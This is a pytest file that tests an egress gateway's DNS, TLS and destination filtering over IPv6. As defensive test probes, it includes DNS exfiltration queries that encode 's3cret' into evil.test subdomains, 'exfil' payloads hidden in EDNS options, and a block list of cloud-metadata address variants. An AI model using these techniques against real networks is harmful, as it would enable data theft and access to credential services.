"""e4: the catalogue over IPv6: questions to the gateway's IPv6 address, IPv6-only names and destinations. The same verdicts, the same speed, the same records."""
import re
import struct

import pytest
from expect import (CODEX, METADATA, NATIVE, NOT_LISTED, SNI_NOT_ALLOWED, addresses, allow, allowed, at_once,
                    ask, denied, dnswire, holding, in_gateway, policy_env, refused, reply, worked)
from test_a2_a3_bytes_in_labels import A2, A3
from test_a7_a8_malformed import a7_messages, a8_messages
from test_f1_f5_tls import HELLO

GW6 = "fd61:6b67::5"  # the first link's own end (vmctl's numbering); asserted below
SIX = HELLO.replace("s = socket.socket()", "s = socket.socket(socket.AF_INET6)").replace("addr='11.1.0.5'", "addr='2a00:1::5'")


@pytest.fixture
def only6(any_user):
    """Names that have no IPv4 address at all."""
    lab = any_user
    for name, addr in (("ok.test", "2a00:1::5"), ("two.test", "2a00:1::5"), ("other.test", "2a00:1::6"), ("evil.test", "2a00:66::2"), ("denied.test", "2a00:66::1")):
        lab.dns.set(name, AAAA=addr)
    return lab


def ask6(name, qtype="AAAA", proto="udp", **kw):
    return ask(name, qtype, GW6, proto, **kw)


def test_e4_a_names_over_ipv6(only6):
    lab = only6
    names = A2[:10] + A3 + [b"\x02ok\x00\x04test\x00"] + ["evilok.test", "ok.test.evil", "sub.ok.test", "wild.test", "a.b"]
    steps = [ask6(n, proto=p) for n in names for p in ("udp", "tcp")] + [ask6("ok.test"), ask6("OK.tEst", proto="tcp")]
    got = lab.probe(allow("ok.test", "*.wild.test"), steps)
    for row in got[:-2]:
        assert reply(row)["rcode"] in (1, 3) and not reply(row)["answers"], reply(row)
    assert addresses(reply(got[-2])) == ["2a00:1::5"] and addresses(reply(got[-1])) == ["2a00:1::5"]
    assert set(lab.dns.names()) == {"ok.test"} and lab.strangers() == []
    denied(lab.netlog(), NOT_LISTED, name="evilok.test", event="dns")


def test_e4_a_malformed_questions_over_ipv6(only6):
    lab = only6
    steps = [["dns", m.hex(), GW6, "udp", 53, 0.05] for m in a7_messages()[:40] + a8_messages()] + [ask6("other.test")]
    got = lab.probe(allow("ok.test", "other.test"), steps)
    for row in got[:-1]:
        if "ok" in row:
            data = bytes.fromhex(row["ok"])
            assert data[3] & 15 in (1, 4, 5) and struct.unpack("!H", data[6:8])[0] == 0, row
    assert addresses(reply(got[-1])) == ["2a00:1::6"] and lab.dns.names() == ["other.test"]


def test_e4_b_dns_as_a_channel_over_ipv6(only6):
    lab = only6
    lab.dns.set("ok.test", AAAA="2a00:1::5", TXT="x", HTTPS="11.66.0.1")
    servers = ["2a00:88::88", "2a00::53", "fd00::1", "2001:4860:4860::8888", "fe80::1"]
    steps = [ask6("%s.evil.test" % ("s3cret" * 8), t, p) for t in ("AAAA", "TXT", "A") for p in ("udp", "tcp")] + [ask6("ok.test", t) for t in ("TXT", "MX", "HTTPS", "SVCB", "ANY", 65280)]
    steps += [ask("ok.test", "AAAA", s, p) for s in servers[:4] for p in ("udp", "tcp")] + [ask("evil.test", "AAAA", s, p) for s in servers[:4] for p in ("udp", "tcp")]
    steps += [["dns", dnswire.query("evil.test").hex(), s, p, port, 2.0] for s in servers[:2] for p in ("udp", "tcp") for port in (54, 5353, 853, 443)]
    steps += [ask6("ok.test", edns=[(8, b"\0\2\x38\0" + b"\x2a" * 7), (65001, b"exfil" * 9)])]
    got = lab.probe(allow("ok.test"), steps)
    for row in got[:6]:
        assert reply(row)["rcode"] == 3
    for row in got[6:12]:
        assert reply(row)["rcode"] in (0, 4, 5) and not reply(row)["answers"]
    for row in got[12:20]:
        assert addresses(reply(row)) == ["2a00:1::5"]
    for row in got[20:28]:
        assert reply(row)["rcode"] == 3
    for row in got[28:-1]:
        refused(row)
    assert set(lab.dns.names()) == {"ok.test"} and {row["qtype"] for row in lab.dns.log()} == {"AAAA"} and lab.strangers() == []
    for row in lab.dns.log():
        assert row["options"] == [] and b"exfil" not in bytes.fromhex(row["raw"])


def test_e4_c_learned_addresses_over_ipv6(only6):
    lab = only6
    for i, ttl in enumerate((0, 1, 60, 2 ** 31, 2 ** 32 - 1)):
        lab.dns.set("t%d.wild.test" % i, AAAA="2a00:71::%d" % (i + 1), ttl=ttl)
    with holding(lab, allow("ok.test", "*.wild.test:7")) as (proc, do):
        assert GW6 in in_gateway(lab, proc, "ip", "-6", "addr").out, "the numbering of links changed: adapt this file"
        told = [reply(row)["answers"][0]["ttl"] for row in do([ask6("t%d.wild.test" % i) for i in range(5)])]
        text = in_gateway(lab, proc, "nft", "list", "sets").out
        for i in range(5):
            found = re.search(r"2a00:71::%d \. 7 timeout (\S+) expires (\S+)" % (i + 1), text)
            assert found and 0 <= told[i] <= 86400, (told, text)
        for row in do([["tcp", "2a00:71::%d" % (i + 1), 7, b"x".hex()] for i in range(5)]):
            worked(row)
        got = do([["tls", "ok.test", 443, "ok.test"], ["tls", "2a00:1::5", 443, "two.test"], ["tls", "2a00:1::5", 443, None]] + [["tcp", "2a00:1::5", p] for p in (22, 7, 8443, 65535)] + [
            ["udp", "2a00:1::5", p] for p in (443, 7)])
        worked(got[0])
        for row in got[1:]:
            refused(row)
        lab.clear()
        for row in lab.probe(allow("ok.test"), [["tls", "2a00:1::5", 443, "ok.test"], ["tcp", "2a00:71::1", 7]]):
            refused(row)
        assert lab.syns() == 0


def test_e4_d_destinations_over_ipv6(only6):
    lab = only6
    blocked = ["fd00:ec2::254", "fd20:ce::254", "fe80::1", "fc00::1", "::1", "ff02::1", "2001:db8::1", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::ffff:169.254.169.254", "64:ff9b::a00:1", "2001:0:4136:e378:8000:63bf:5601:5601",
               "fd61:6b67::9", "fd61:6b67::a", "2a00:ffff::2", GW6]
    for i, addr in enumerate(blocked):
        lab.dns.set("d%d.wild.test" % i, AAAA=addr)
    for args in (allow("*.wild.test"), NATIVE):
        got = lab.probe(args, [ask6("d%d.wild.test" % i) for i in range(len(blocked) - 2)] + [["tcp", a, p, b"x".hex()] for a in blocked for p in (443, 8000)] + [["udp", a, 5000, "x", 1.0] for a in blocked[:4]] + [
            ["tcp", "2a00:66::1", 443] if args != NATIVE else ["tcp", "fd12::1", 443]])
        for i in range(len(blocked) - 2):
            assert not addresses(reply(got[i])), (blocked[i], reply(got[i]))
        for row in got[len(blocked) - 2:]:
            assert "err" in row, row
            at_once(row)
    assert lab.strangers() == [], lab.strangers()
    denied(lab.netlog(), METADATA, dst="fd00:ec2::254", port=443, proto="tcp")


def test_e4_f_tls_over_ipv6(only6):
    lab = only6
    code = SIX + r"""
good = hello('ok.test')
out = {'plain': talk(good), 'pieces': talk(good, 7), 'records': talk(records(good[5:], 16), 5), 'large': talk(records(grown(good, 3000), 16000)),
 'no sni': talk(hello(None)), 'other': talk(hello('evil.test')), 'other in pieces': talk(hello('evil.test'), 7), 'neighbour': talk(hello('two.test')), 'elsewhere': talk(good, addr='2a00:1::6'), 'garbage': talk(b'\xde\xad' * 50),
 'ssh': talk(b'SSH-2.0-x\r\n'), 'ech': talk(records(grown(hello('evil.test'), 200, 0xfe0d), 16000)), 'http': talk(b'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n')}
"""
    steps = [["eval", code], ["http", "2a00:1::5", 80, "ok.test"], ["http", "2a00:1::5", 80, "evil.test"], ["http", "2a00:1::5", 80, "[2a00:1::5]"], ["http", "2a00:1::5", 80, "other.test"], ["udp", "2a00:1::5", 443, "\xc0quic" * 200]]
    got = lab.probe(allow("ok.test", "other.test"), steps, timeout=90)
    out = worked(got[0])
    assert {k for k, v in out.items() if v[0] in ("server hello", "alert")} == {"plain", "pieces", "records", "large"}, out
    assert all(v[0] != "timeout" for v in out.values()), out
    at_once(got[0])
    worked(got[1])
    for row in got[2:]:
        refused(row)
    assert lab.syns("2a00:1::5", 443) == 4 and lab.syns("2a00:1::6") == 0 and lab.arrived(proto="udp", port=443) == 0
    log = lab.netlog()
    denied(log, SNI_NOT_ALLOWED, sni="evil.test", dst="2a00:1::5", port=443)
    allowed(log, sni="ok.test", dst="2a00:1::5", port=443)


def test_e4_an_ipv6_literal_in_brackets_is_no_name(lab):
    env = policy_env(lab, codex={"allow": ["ok.test"]})
    got = lab.probe(CODEX, [["http", "2a00:66::1", 80, "ok.test"], ["tls", "2a00:66::1", 443, "ok.test"], ["tcp", "::ffff:11.66.0.1", 443], ["tcp", "::ffff:11.1.0.5", 443]], env=env)
    for row in got:
        refused(row)
    assert lab.strangers() == []
